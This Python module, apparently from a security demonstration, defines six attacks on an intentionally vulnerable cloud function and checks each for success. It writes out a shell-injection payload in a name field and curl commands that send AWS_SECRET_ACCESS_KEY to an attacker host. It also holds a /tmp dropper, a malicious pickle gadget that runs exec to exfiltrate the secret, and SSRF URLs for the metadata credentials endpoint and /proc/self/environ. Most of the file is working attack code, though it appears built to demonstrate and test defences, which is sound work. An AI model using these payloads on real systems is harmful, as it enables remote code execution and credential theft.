"""Six attacks through the function's three holes. Each can tell from outside whether it worked."""

import base64
import pickletools
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from demo.function.loopback import Neighbours

PROOF_SECONDS = 1.5
"""How long the attacker waits for a sign of life before the attack counts as failed."""

SECRET = "of-the-demo-function"  # noqa: S105 - nothing opens with it
"""The function's AWS_SECRET_ACCESS_KEY."""


@dataclass(frozen=True)
class Attack:
    """A name for the table, the technique (ATT&CK), what is typed, the event it is, how success shows."""

    name: str
    technique: str
    typed: Callable[[Neighbours], str]
    event: Callable[[Neighbours], dict[str, Any]]
    worked: Callable[[Neighbours, str], bool]
    """Given who is there and the answer to the attack."""


def request(path: str, query: dict[str, str], cookie: str = "") -> dict[str, Any]:
    """An event as API Gateway sends it."""
    headers = {"cookie": cookie} if cookie else {}
    return {
        "version": "2.0",
        "rawPath": path,
        "queryStringParameters": query,
        "headers": headers,
        "requestContext": {"http": {"method": "GET", "path": path}},
    }


def _injected(
    name: str, technique: str, command: Callable[[Neighbours], str], worked: Callable[[Neighbours, str], bool]
) -> Attack:
    """By way of the customer's name."""
    return Attack(
        name,
        technique,
        command,
        lambda us: request("/invoice", {"order": "1", "name": f"x'; {command(us)}; echo '"}),
        worked,
    )


def _pickled(us: Neighbours) -> str:
    """A pickle that has Python send what it knows to the attacker."""
    known = "os.environ['AWS_SECRET_ACCESS_KEY'].encode()"
    code = f"import os,urllib.request as u;u.urlopen('{us.attacker}/pickled',{known})"
    gadget = b"cbuiltins\nexec\n(V" + code.encode("raw_unicode_escape") + b"\ntR."
    return base64.b64encode(pickletools.optimize(gadget)).decode()


def _previewed(name: str, technique: str, url: Callable[[Neighbours], str], text: str) -> Attack:
    """By way of the shop window."""
    return Attack(
        name, technique, url, lambda us: request("/preview", {"url": url(us)}), lambda us, said: text in said
    )


def _reported(text: bytes) -> Callable[[Neighbours, str], bool]:
    """This reaches the attacker."""

    def worked(us: Neighbours, said: str) -> bool:
        deadline = time.monotonic() + PROOF_SECONDS
        while not us.has(text) and time.monotonic() < deadline:
            time.sleep(0.02)
        return us.has(text)

    return worked


ATTACKS = (
    _injected(
        "a command in the customer's name", "T1059.004", lambda us: "id", lambda us, said: "uid=" in said
    ),
    _injected(
        "credentials leave by curl",
        "T1048",
        lambda us: f'curl -s -m 2 -d "$AWS_SECRET_ACCESS_KEY" {us.attacker}/curl',
        _reported(b"/curl " + SECRET.encode()),
    ),
    _injected(
        "a dropper in /tmp",
        "T1105",
        lambda us: (
            f'printf "#!/bin/sh\\nexec curl -s -m 2 {us.attacker}/dropper" >/tmp/.d; '
            "chmod +x /tmp/.d; /tmp/.d"
        ),
        _reported(b"/dropper"),
    ),
    Attack(
        "a pickle in the basket's cookie",
        "T1059.006",
        lambda us: "cookie: cbuiltins\\nexec\\n(V import os,urllib.request …",
        lambda us: request("/basket", {}, _pickled(us)),
        _reported(b"/pickled " + SECRET.encode()),
    ),
    _previewed(
        "the metadata service, by preview",
        "T1552.005",
        lambda us: f"{us.metadata}/latest/credentials",
        "AccessKeyId",
    ),
    _previewed(
        "the function's environment, by preview", "T1552.001", lambda us: "file:///proc/self/environ", SECRET
    ),
)
